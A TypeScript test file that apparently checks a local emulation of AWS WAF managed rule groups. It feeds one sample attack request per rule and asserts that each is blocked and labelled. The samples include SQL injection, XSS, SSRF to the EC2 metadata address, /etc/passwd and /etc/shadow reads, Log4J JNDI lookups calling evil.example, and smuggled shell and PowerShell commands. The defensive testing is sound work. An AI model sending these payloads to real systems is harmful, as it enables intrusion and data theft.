import assert from 'node:assert/strict'
import { test } from 'node:test'
import { EMPTY_REGISTRY } from '../acl/registry.ts'
import { readWebAcl } from '../config.ts'
import { type RequestParts, testWaf, visibility, webAcl } from '../waf.fixture.ts'
import { crawlers } from './crawlers.ts'
import { BOT_CONTROL, managedGroups, managedRuleGroups } from './managed-groups.ts'

const AGENT =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36'

function managed(Name: string, more: object = {}) {
  return webAcl([
    {
      Name: 'managed',
      Priority: 0,
      Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name, ...more } },
      OverrideAction: { None: {} },
      VisibilityConfig: visibility('managed'),
    },
  ])
}

function wafWith(name: string, ipSets: Readonly<Record<string, unknown>> = {}, more: object = {}) {
  const registry = { ...EMPTY_REGISTRY, ipSets: new Map(Object.entries(ipSets)) }
  return testWaf(managed(name, more), { registry, managed: managedGroups(registry) })
}

function browser(parts: RequestParts = {}, headers: Readonly<Record<string, string>> = {}): RequestParts {
  return { ...parts, headers: { Host: 'example.com', 'User-Agent': AGENT, ...headers } }
}

interface Attack {
  readonly rule: string
  readonly label: string
  readonly request: RequestParts
}

const core = 'awswaf:managed:aws:core-rule-set:'
const bad = 'awswaf:managed:aws:known-bad-inputs:'
const sql = 'awswaf:managed:aws:sql-database:'
const post = (body: string) => browser({ method: 'POST', body })
const get = (target: string, headers: Readonly<Record<string, string>> = {}) => browser({ target }, headers)
const union = "1' UNION SELECT password FROM users-- "
const unionEncoded = encodeURIComponent(union)

/** One attack for every rule; names and labels as AWS documents them (DG:aws-managed-rule-groups-list). */
const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  AWSManagedRulesCommonRuleSet: [
    {
      rule: 'NoUserAgent_HEADER',
      label: `${core}NoUserAgent_Header`,
      request: { headers: { Host: 'example.com' } },
    },
    {
      rule: 'UserAgent_BadBots_HEADER',
      label: `${core}BadBots_Header`,
      request: get('/', { 'User-Agent': 'sqlmap/1.8' }),
    },
    {
      rule: 'SizeRestrictions_QUERYSTRING',
      label: `${core}SizeRestrictions_QueryString`,
      request: get(`/?${'a'.repeat(2049)}`),
    },
    {
      rule: 'SizeRestrictions_Cookie_HEADER',
      label: `${core}SizeRestrictions_Cookie_Header`,
      request: get('/', { Cookie: `a=${'x'.repeat(10_300)}` }),
    },
    { rule: 'SizeRestrictions_BODY', label: `${core}SizeRestrictions_Body`, request: post('x'.repeat(8193)) },
    {
      rule: 'SizeRestrictions_URIPATH',
      label: `${core}SizeRestrictions_URIPath`,
      request: get(`/${'a'.repeat(1024)}`),
    },
    {
      rule: 'EC2MetaDataSSRF_BODY',
      label: `${core}EC2MetaDataSSRF_Body`,
      request: post('url=http://169.254.169.254/latest'),
    },
    {
      rule: 'EC2MetaDataSSRF_COOKIE',
      label: `${core}EC2MetaDataSSRF_Cookie`,
      request: get('/', { Cookie: 'u=http://169.254.169.254/' }),
    },
    {
      rule: 'EC2MetaDataSSRF_URIPATH',
      label: `${core}EC2MetaDataSSRF_URIPath`,
      request: get('/proxy/169.254.169.254/latest'),
    },
    {
      rule: 'EC2MetaDataSSRF_QUERYARGUMENTS',
      label: `${core}EC2MetaDataSSRF_QueryArguments`,
      request: get('/?u=http%3A%2F%2F169.254.169.254%2F'),
    },
    {
      rule: 'GenericLFI_QUERYARGUMENTS',
      label: `${core}GenericLFI_QueryArguments`,
      request: get('/?f=..%2F..%2Fsecret'),
    },
    {
      rule: 'GenericLFI_URIPATH',
      label: `${core}GenericLFI_URIPath`,
      request: get('/a/%2e%2e/%2e%2e/secret'),
    },
    { rule: 'GenericLFI_BODY', label: `${core}GenericLFI_Body`, request: post('f=../../secret') },
    {
      rule: 'RestrictedExtensions_URIPATH',
      label: `${core}RestrictedExtensions_URIPath`,
      request: get('/app/debug.log'),
    },
    {
      rule: 'RestrictedExtensions_QUERYARGUMENTS',
      label: `${core}RestrictedExtensions_QueryArguments`,
      request: get('/?f=settings.ini'),
    },
    {
      rule: 'GenericRFI_QUERYARGUMENTS',
      label: `${core}GenericRFI_QueryArguments`,
      request: get('/?p=http://203.0.113.5/x.txt'),
    },
    { rule: 'GenericRFI_BODY', label: `${core}GenericRFI_Body`, request: post('p=http://203.0.113.5/x.txt') },
    { rule: 'GenericRFI_URIPATH', label: `${core}GenericRFI_URIPath`, request: get('/http://203.0.113.5/x') },
    {
      rule: 'CrossSiteScripting_COOKIE',
      label: `${core}CrossSiteScripting_Cookie`,
      request: get('/', { Cookie: 'a=<script>alert(1)</script>' }),
    },
    {
      rule: 'CrossSiteScripting_QUERYARGUMENTS',
      label: `${core}CrossSiteScripting_QueryArguments`,
      request: get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    },
    {
      rule: 'CrossSiteScripting_BODY',
      label: `${core}CrossSiteScripting_Body`,
      request: post('q=<img src=x onerror=alert(1)>'),
    },
    {
      rule: 'CrossSiteScripting_URIPATH',
      label: `${core}CrossSiteScripting_URIPath`,
      request: get('/%3Cscript%3Ealert(1)'),
    },
  ],
  AWSManagedRulesAdminProtectionRuleSet: [
    {
      rule: 'AdminProtection_URIPATH',
      label: 'awswaf:managed:aws:admin-protection:AdminProtection_URIPath',
      request: get('/phpMyAdmin/index.php'),
    },
  ],
  AWSManagedRulesKnownBadInputsRuleSet: [
    {
      rule: 'JavaDeserializationRCE_HEADER',
      label: `${bad}JavaDeserializationRCE_Header`,
      request: get('/', { 'X-Data': '(java.lang.Runtime).getRuntime().exec("id")' }),
    },
    {
      rule: 'JavaDeserializationRCE_BODY',
      label: `${bad}JavaDeserializationRCE_Body`,
      request: post('rO0ABXNyABFqYXZh'),
    },
    {
      rule: 'JavaDeserializationRCE_URIPATH',
      label: `${bad}JavaDeserializationRCE_URIPath`,
      request: get('/java.lang.ProcessBuilder/x'),
    },
    {
      rule: 'JavaDeserializationRCE_QUERYSTRING',
      label: `${bad}JavaDeserializationRCE_QueryString`,
      request: get('/?class.module.classLoader.resources=x'),
    },
    {
      rule: 'Host_localhost_HEADER',
      label: `${bad}Host_Localhost_Header`,
      request: get('/', { Host: 'localhost' }),
    },
    { rule: 'PROPFIND_METHOD', label: `${bad}Propfind_Method`, request: browser({ method: 'PROPFIND' }) },
    {
      rule: 'ExploitablePaths_URIPATH',
      label: `${bad}ExploitablePaths_URIPath`,
      request: get('/WEB-INF/web.xml'),
    },
    {
      rule: 'Log4JRCE_HEADER',
      label: `${bad}Log4JRCE_Header`,
      request: get('/', { 'X-Api': '${jndi:ldap://evil.example/a}' }),
    },
    {
      rule: 'Log4JRCE_QUERYSTRING',
      label: `${bad}Log4JRCE_QueryString`,
      request: get('/?q=$%7Bjndi:ldap://evil.example/a%7D'),
    },
    {
      rule: 'Log4JRCE_BODY',
      label: `${bad}Log4JRCE_Body`,
      request: post('${${lower:j}ndi:ldap://evil.example/a}'),
    },
    {
      rule: 'Log4JRCE_URIPATH',
      label: `${bad}Log4JRCE_URIPath`,
      request: get('/$%7Bjndi:dns://evil.example%7D'),
    },
    {
      rule: 'ReactJSRCE_BODY',
      label: `${bad}ReactJSRCE_Body`,
      request: post('{"then":"$1:__proto__:then","status":"resolved_model"}'),
    },
  ],
  AWSManagedRulesSQLiRuleSet: [
    { rule: 'SQLi_QUERYARGUMENTS', label: `${sql}SQLi_QueryArguments`, request: get(`/?id=${unionEncoded}`) },
    { rule: 'SQLi_BODY', label: `${sql}SQLi_Body`, request: post(`id=${unionEncoded}`) },
    { rule: 'SQLi_COOKIE', label: `${sql}SQLi_Cookie`, request: get('/', { Cookie: `id=${unionEncoded}` }) },
    {
      rule: 'SQLiExtendedPatterns_QUERYARGUMENTS',
      label: `${sql}SQLiExtendedPatterns_QueryArguments`,
      request: get('/?x=text%20sleep(%20now'),
    },
    {
      rule: 'SQLiExtendedPatterns_BODY',
      label: `${sql}SQLiExtendedPatterns_Body`,
      request: post('x=text sleep( now'),
    },
    { rule: 'SQLi_URIPATH', label: `${sql}SQLi_URIPath`, request: get(`/items/${unionEncoded}`) },
  ],
  AWSManagedRulesLinuxRuleSet: [
    {
      rule: 'LFI_URIPATH',
      label: 'awswaf:managed:aws:linux-os:LFI_URIPath',
      request: get('/x/proc/version'),
    },
    {
      rule: 'LFI_QUERYSTRING',
      label: 'awswaf:managed:aws:linux-os:LFI_QueryString',
      request: get('/?f=/etc/passwd'),
    },
    {
      rule: 'LFI_HEADER',
      label: 'awswaf:managed:aws:linux-os:LFI_Header',
      request: get('/', { 'X-File': '/etc/shadow' }),
    },
  ],
  AWSManagedRulesUnixRuleSet: [
    {
      rule: 'UNIXShellCommandsVariables_QUERYARGUMENTS',
      label: 'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryArguments',
      request: get('/?q=echo%20$HOME'),
    },
    {
      rule: 'UNIXShellCommandsVariables_BODY',
      label: 'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_Body',
      request: post('a=1;cat /etc/hosts'),
    },
    {
      rule: 'UNIXShellCommandsVariables_QUERYSTRING',
      label: 'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryString',
      request: get('/?$PATH=1'),
    },
    {
      rule: 'UNIXShellCommandsVariables_HEADER',
      label: 'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_Header',
      request: get('/', { 'X-C': '|whoami' }),
    },
  ],
  AWSManagedRulesWindowsRuleSet: [
    {
      rule: 'WindowsShellCommands_COOKIE',
      label: 'awswaf:managed:aws:windows-os:WindowsShellCommands_Cookie',
      request: get('/', { Cookie: 'a=|nslookup evil.example' }),
    },
    {
      rule: 'WindowsShellCommands_QUERYARGUMENTS',
      label: 'awswaf:managed:aws:windows-os:WindowsShellCommands_QueryArguments',
      request: get('/?a=1%7Cnslookup%20evil.example'),
    },
    {
      rule: 'WindowsShellCommands_BODY',
      label: 'awswaf:managed:aws:windows-os:WindowsShellCommands_Body',
      request: post('a=%7Ccmd /c dir'),
    },
    {
      rule: 'PowerShellCommands_COOKIE',
      label: 'awswaf:managed:aws:windows-os:PowerShellCommands_Cookie',
      request: get('/', { Cookie: 'a=Invoke-Expression x' }),
    },
    {
      rule: 'PowerShellCommands_QUERYARGUMENTS',
      label: 'awswaf:managed:aws:windows-os:PowerShellCommands_QueryArguments',
      request: get('/?a=Invoke-Expression'),
    },
    {
      rule: 'PowerShellCommands_BODY',
      label: 'awswaf:managed:aws:windows-os:PowerShellCommands_Body',
      request: post('powershell -enc AAAA'),
    },
  ],
  AWSManagedRulesPHPRuleSet: [
    {
      rule: 'PHPHighRiskMethodsVariables_HEADER',
      label: 'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_Header',
      request: get('/', { 'X-P': "fsockopen('x')" }),
    },
    {
      rule: 'PHPHighRiskMethodsVariables_QUERYSTRING',
      label: 'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_QueryString',
      request: get('/?x=$_GET[a]'),
    },
    {
      rule: 'PHPHighRiskMethodsVariables_BODY',
      label: 'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_Body',
      request: post('<?php system($x);'),
    },
  ],
  AWSManagedRulesWordPressRuleSet: [
    {
      rule: 'WordPressExploitableCommands_QUERYSTRING',
      label: 'awswaf:managed:aws:wordpress-app:WordPressExploitableCommands_QUERYSTRING',
      request: get('/?do-reset-wordpress=1'),
    },
    {
      rule: 'WordPressExploitablePaths_URIPATH',
      label: 'awswaf:managed:aws:wordpress-app:WordPressExploitablePaths_URIPATH',
      request: get('/xmlrpc.php'),
    },
  ],
}

for (const [group, attacks] of Object.entries(ATTACKS)) {
  test(`${group}: every rule blocks its attack under its documented name and label`, async () => {
    const names = managedRuleGroups[group]!.rules.map((rule) => (rule as { readonly Name: string }).Name)
    assert.deepEqual(
      attacks.map(({ rule }) => rule),
      names,
    )
    for (const { rule, label, request } of attacks) {
      // Other rules of the group may see the same attack: they only count here.
      const RuleActionOverrides = names
        .filter((name) => name !== rule)
        .map((Name) => ({ Name, ActionToUse: { Count: {} } }))
      const { evaluation } = await wafWith(group, {}, { RuleActionOverrides }).send(request)
      assert.equal(evaluation.hit?.rule, rule)
      assert.ok(evaluation.labels.includes(label), `${rule}: ${evaluation.labels.join(', ')}`)
    }
  })
}

test('ordinary requests pass every group', async () => {
  const ordinary: readonly RequestParts[] = [
    get('/'),
    get("/search?q=women's+shoes+and+bags&page=2&sort=price"),
    get('/products/red-shirt_42?utm_source=newsletter&utm_campaign=spring%20sale', {
      Referer: 'https://www.example.org/a?b=c',
      Cookie: 'session=8f14e45fceea167a5a36dedd4bea2543; theme=dark',
    }),
    get('/docs/administration-guide?next=/select/from/list'),
    post('name=Anna+Smith&comment=I+like+it%2C+and+you%3F+Call+me+at+5+or+6%3B+bye'),
    post('{"user":{"name":"O\'Brien","tags":["a","b"]},"note":"cats & dogs; 1 < 2"}'),
    get('/a.b/c.js?v=1.2.3', {
      'User-Agent':
        'Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Mobile/15E148 Safari/604.1',
    }),
  ]
  for (const group of [...Object.keys(managedRuleGroups), BOT_CONTROL]) {
    const waf = wafWith(group)
    for (const request of ordinary) {
      const { evaluation } = await waf.send(request)
      assert.equal(
        evaluation.hit?.rule,
        undefined,
        `${group}: ${request.target ?? ''}${String(request.body ?? '')}`,
      )
    }
  }
})

test('IP lists are the operator’s, and the DDoS list only counts', async () => {
  const lists = {
    AWSManagedIPReputationList: ['192.0.2.1/32'],
    AWSManagedIPDDoSList: ['198.51.100.7/32'],
    AnonymousIPList: ['203.0.113.0/24'],
  }
  const reputation = wafWith('AWSManagedRulesAmazonIpReputationList', lists)
  const blocked = await reputation.send(browser({ from: '192.0.2.1' }))
  assert.equal(blocked.evaluation.hit?.rule, 'AWSManagedIPReputationList')
  const counted = await reputation.send(browser({ from: '198.51.100.7' }))
  assert.equal(counted.evaluation.action, 'allow')
  assert.deepEqual(counted.evaluation.labels, ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList'])
  const anonymous = await wafWith('AWSManagedRulesAnonymousIpList', lists).send(
    browser({ from: '203.0.113.9' }),
  )
  assert.equal(anonymous.evaluation.hit?.rule, 'AnonymousIPList')
})

test('Bot Control tells bots by name, category and organization, and only labels verified ones', async () => {
  const bots = wafWith(BOT_CONTROL, { VerifiedBotList: ['198.51.100.0/24'] })
  const prefix = 'awswaf:managed:aws:bot-control:'
  const google = { 'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }
  const fake = await bots.send(browser({ from: '192.0.2.1' }, google))
  assert.equal(fake.evaluation.hit?.rule, 'CategorySearchEngine')
  assert.deepEqual(fake.evaluation.labels, [
    `${prefix}bot:category:search_engine`,
    `${prefix}bot:name:googlebot`,
    `${prefix}bot:organization:google`,
    `${prefix}bot:unverified`,
  ])
  const real = await bots.send(browser({ from: '198.51.100.7' }, google))
  assert.equal(real.evaluation.action, 'allow')
  assert.ok(real.evaluation.labels.includes(`${prefix}bot:verified`))
  const training = await bots.send(
    browser({ from: '198.51.100.7' }, { 'User-Agent': 'Mozilla/5.0 (compatible; GPTBot/1.2)' }),
  )
  assert.equal(training.evaluation.hit?.rule, 'CategoryAI')
  const none = await bots.send({ headers: { Host: 'example.com' } })
  assert.equal(none.evaluation.hit?.rule, 'SignalNonBrowserUserAgent')
  const counted = await wafWith(
    BOT_CONTROL,
    {},
    {
      RuleActionOverrides: [{ Name: 'CategoryHttpLibrary', ActionToUse: { Count: {} } }],
    },
  ).send(browser({}, { 'User-Agent': 'curl/8.5.0' }))
  assert.equal(counted.evaluation.action, 'allow')
  assert.deepEqual(
    counted.evaluation.groups[0]!.counted.map((hit) => hit.rule),
    ['CategoryHttpLibrary'],
  )
})

test('every crawler of the list is found by its own text, unless one before it is part of it', () => {
  for (const crawler of crawlers) {
    const first = crawlers.find(({ text }) => crawler.text.includes(text))
    assert.ok(first === crawler || crawlers.indexOf(first!) < crawlers.indexOf(crawler), crawler.text)
    assert.match(crawler.name, /^[a-z0-9_]+$/)
    assert.equal(crawler.text, crawler.text.toLowerCase())
  }
})

test('check tells how true a group is, which lists are missing, and names overrides that lead nowhere', () => {
  const { notes, problems } = readWebAcl(
    managed('AWSManagedRulesAnonymousIpList', {
      RuleActionOverrides: [{ Name: 'NoSuchRule', ActionToUse: { Count: {} } }],
    }),
    { managed: managedGroups(EMPTY_REGISTRY) },
  )
  assert.deepEqual(problems, [])
  const said = notes.map(({ message }) => message)
  assert.ok(said.some((text) => text.includes('of its rules are 2 documented')))
  assert.ok(said.some((text) => text.includes('no IP set named AnonymousIPList')))
  assert.ok(said.some((text) => text.includes('no rule named NoSuchRule')))
})

test('a group that has no equivalent here is refused', () => {
  const { problems } = readWebAcl(managed('AWSManagedRulesATPRuleSet'), {
    managed: managedGroups(EMPTY_REGISTRY),
  })
  assert.match(problems[0]!.message, /no equivalent of the managed rule group AWS AWSManagedRulesATPRuleSet/)
})
